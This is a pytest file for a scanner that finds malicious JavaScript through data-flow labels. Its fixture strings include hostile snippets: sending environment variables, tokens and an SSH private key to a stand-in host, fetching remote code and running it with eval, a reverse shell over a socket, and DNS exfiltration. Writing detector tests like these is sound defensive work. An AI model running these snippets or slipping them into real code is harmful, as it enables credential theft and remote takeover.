"""Where values come from and where they go: every source's label arrives at every sink, and nothing else does."""

import pytest

from scanners.facts import Act, Context
from scanners.javascript import read_scripts
from tests.scanners.javascript.reading import read, says, source

URL = "https://a.example.invalid/"
FLOWS = {
    "environment": (
        f"fetch('{URL}', {{ method: 'POST', body: JSON.stringify(process.env) }})",
        f"network.send '{URL}' [environment-all] import {{}}",
    ),
    "environment spread": (
        f"const all = {{ ...process.env }}; require('axios').post('{URL}', all)",
        f"network.send '{URL}' [environment-all] import {{}}",
    ),
    "secret variable": (
        f"fetch(`{URL}?t=${{process.env.BOT_TOKEN}}`)",
        f"network.send '{URL}?t={{}}' [secret] import {{}}",
    ),
    "token attribute": (
        f"require('axios').post('{URL}', {{ t: client.token }})",
        f"network.send '{URL}' [secret] import {{}}",
    ),
    "host": (
        f"const os = require('os'); fetch('{URL}', {{ method: 'POST', body: os.hostname() + os.userInfo().username }})",
        f"network.send '{URL}' [host] import {{}}",
    ),
    "store": (
        (
            "const fs = require('fs'), path = require('path'), os = require('os');"
            f"const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); require('axios').post('{URL}', k)"
        ),
        f"network.send '{URL}' [credentials] import {{}}",
    ),
    "file by callback": (
        f"require('fs').readFile('a.txt', (err, data) => fetch('{URL}', {{ method: 'PUT', body: data }}))",
        f"network.send '{URL}' [file] import {{}}",
    ),
    "request stream": (
        (
            "const req = require('https').request({ hostname: 'a.example.invalid', path: '/x', method: 'POST' });"
            "req.write(JSON.stringify(process.env)); req.end();"
        ),
        "network.send 'a.example.invalid/x' [environment-all] import {}",
    ),
    "download evaluated": (
        (
            f"require('https').get('{URL}', res => {{ let d = ''; res.on('data', c => d += c); "
            f"res.on('end', () => eval(d)) }})"
        ),
        "code.eval '' [network] import {}",
    ),
    "end before data": (
        (
            f"require('https').get('{URL}', res => {{ let d = ''; res.on('end', () => eval(d)); "
            f"res.on('data', c => d += c) }})"
        ),
        "code.eval '' [network] import {}",
    ),
    "promise evaluated": (
        f"fetch('{URL}').then(r => r.text()).then(t => new Function(t)())",
        "code.eval '' [network] import {}",
    ),
    "await evaluated": (
        f"(async () => {{ const r = await fetch('{URL}'); eval(await r.text()) }})()",
        "code.eval '' [network] import {}",
    ),
    "promise made by hand": (
        (
            "const get = u => new Promise(ok => require('http').get(u, r => { let d = ''; r.on('data', c => d += c);"
            f" r.on('end', () => ok(d)) }})); get('{URL}').then(eval)"
        ),
        "code.eval '' [network] import {}",
    ),
    "downloaded file": (
        f"require('https').get('{URL}', r => r.pipe(require('fs').createWriteStream('/tmp/x')))",
        "file.write '/tmp/x' [network] import {}",
    ),
    "socket commands": (
        "const s = require('net').connect(4444, '203.0.113.5'); s.on('data', d => require('child_process').exec(d))",
        "process.start '' [network] import {shell}",
    ),
    "socket answers": (
        (
            "const s = require('net').connect(4444, '203.0.113.5');"
            "require('child_process').exec('id', (e, out) => s.write(out))"
        ),
        "network.send '203.0.113.5:4444' [process] import {}",
    ),
    "shell on a socket": (
        (
            "const s = new (require('net').Socket)(); s.connect(4444, '203.0.113.5', () => {"
            "const sh = require('child_process').spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s) })"
        ),
        "stream.to-socket '' [network] import {}",
    ),
    "name look-up": (
        "require('dns').lookup(`${Buffer.from(require('os').hostname()).toString('hex')}.a.example.invalid`, () => {})",
        "network.lookup '{}.a.example.invalid' [host] import {}",
    ),
    "decoded evaluated": (
        "let o = ''; for (const c of codes) o += String.fromCharCode(c ^ 7); eval(o)",
        "code.eval '' [decoded] import {decoded}",
    ),
    "decrypted evaluated": (
        (
            "const d = require('crypto').createDecipheriv('aes-256-cbc', k, v); eval(d.update(x, 'hex', "
            "'utf8') + d.final('utf8'))"
        ),
        "code.eval '' [decoded,opaque] import {decoded}",
    ),
    "field": (
        (
            f"class A {{ load() {{ this.e = process.env }} send() {{ fetch('{URL}', {{ method: 'POST', "
            f"body: JSON.stringify(this.e) }}) }} }}"
            "const a = new A(); a.load(); a.send()"
        ),
        f"network.send '{URL}' [environment-all] import {{}}",
    ),
    "assigned": (
        f"const o = Object.assign({{}}, {{ e: process.env }}); require('got').post('{URL}', {{ json: o }})",
        f"network.send '{URL}' [environment-all] import {{}}",
    ),
    "own sender": (
        f"const send = b => require('axios').post('{URL}', b); send(process.env)",
        f"network.send '{URL}' [environment-all] import {{}}",
    ),
    "clipboard": (
        f"require('clipboardy').read().then(t => fetch('{URL}' + t))",
        f"network.send '{URL}{{}}' [clipboard] import {{}}",
    ),
    "message": (
        "client.on('messageCreate', message => require('child_process').exec(message.content))",
        "process.start '' [argument,message] runtime {shell}",
    ),
    "web hook": (
        (
            "const { WebhookClient } = require('discord.js');"
            f"const w = new WebhookClient({{ url: '{URL}' }}); w.send({{ content: process.env.TOKEN }})"
        ),
        f"network.send '{URL}' [secret] import {{}}",
    ),
    "unknown library": (
        "const x = require('x'); const z = x.pack(process.env); fetch(`https://a.example.invalid/${z}`)",
        f"network.send '{URL}{{}}' [environment-all] import {{}}",
    ),
}


@pytest.mark.parametrize(("code", "said"), FLOWS.values(), ids=FLOWS.keys())
def test_labels_arrive_where_values_go(code: str, said: str) -> None:
    assert said in says(code)


QUIET = {
    "environment for a child": ("require('child_process').spawn('ls', [], { env: process.env })", "environment-all"),
    "constant address": (f"fetch('{URL}')", "network.send"),
    "answer of a send": (
        f"require('axios').post('{URL}', {{ t: client.token }}).then(r => eval(r.data))",
        "code.eval '' [network,secret]",
    ),
    "one variable": (f"const t = process.env.NODE_ENV; fetch('{URL}', {{ headers: {{ t }} }})", "environment-all"),
    "readme": (f"require('fs').readFileSync('./README.md'); fetch('{URL}', {{ method: 'POST' }})", "[file]"),
    "other branch": (
        f"function f(x) {{ return x }} f(process.env); fetch('{URL}', {{ method: 'POST', body: f('a') }})",
        f"network.send '{URL}' [environment-all]",
    ),
    "console": ("console.log = () => {}", "host.patch"),
    "polyfill of its own": ("const o = {}; o.fetch = () => 1", "host.patch"),
}


@pytest.mark.parametrize(("code", "unsaid"), QUIET.values(), ids=QUIET.keys())
def test_labels_stay_where_values_stay(code: str, unsaid: str) -> None:
    assert not [line for line in says(code) if unsaid in line]


def test_an_origin_in_another_file_has_no_line() -> None:
    facts = read(
        f"const e = require('./env'); fetch('{URL}', {{ method: 'POST', body: e.all() }})",
        env_js="exports.all = () => JSON.stringify(process.env)",
    ).facts
    sent = next(fact for fact in facts if fact.act is Act.NETWORK_SEND)

    assert [origin.line for origin in sent.origins] == [0]


def test_context_says_when_code_runs() -> None:
    code = (
        "const cp = require('child_process'); cp.exec('a'); exports.f = () => cp.exec('b'); if (false) { cp.exec('c') }"
    )
    facts = read(code).facts

    assert {fact.detail: fact.context for fact in facts} == {
        "a": Context.IMPORT,
        "b": Context.RUNTIME,
        "c": Context.DEAD,
    }


def test_install_scripts_and_tests_run_at_their_own_time() -> None:
    code = "require('child_process').exec('a')"
    scripts = [source("scripts/post.js", code), source("test/a.test.js", code), source("lib.js", code)]
    facts = read_scripts(scripts, entry_points=(), install_files=frozenset({"scripts/post.js"})).facts

    assert {fact.path: fact.context for fact in facts} == {
        "lib.js": Context.IMPORT,
        "scripts/post.js": Context.INSTALL,
        "test/a.test.js": Context.DEAD,
    }


def test_a_test_that_live_code_imports_is_live() -> None:
    facts = read("require('./test/a.js')", test__a_js="require('child_process').exec('a')").facts

    assert [fact.context for fact in facts] == [Context.IMPORT]
